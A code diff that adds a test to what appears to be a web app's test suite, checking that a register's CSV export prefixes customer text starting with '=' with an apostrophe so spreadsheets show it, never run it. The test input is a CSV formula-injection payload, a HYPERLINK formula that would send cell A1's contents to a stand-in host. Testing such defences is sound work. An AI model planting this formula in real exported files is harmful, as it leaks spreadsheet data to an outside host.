@@ -106,6 +106,16 @@ def test_the_register_page_the_api_and_the_csv_list_the_same_rows_for_every_filt
         assert csv_numbers(page, query) == expected, query
 
 
+def test_the_register_csv_writes_no_formula_a_spreadsheet_would_run(people):
+    """A customer's words beginning with "=" (or "+", "-", "@") are written after an apostrophe: shown, never run."""
+    words = '=HYPERLINK("http://example.invalid/?"&A1,"更多 more")'
+    start(FLOW, "start", people["market"], collect_data(customer_words=words))
+    start(FLOW, "start", people["market"], collect_data(customer_words="-5"))
+    rows = csv_rows(web("quality_mgr"), f"{REGISTER}register.csv")
+    column = rows[0].index("The customer's words")
+    assert sorted(row[column] for row in rows[1:]) == ["'" + words, "-5"]  # a plain number stays a number
+
+
 def test_the_register_pages_and_always_shows_the_total(people, register, monkeypatch):
     monkeypatch.setattr(views, "PAGE_SIZE", 2)
     page = web("market")
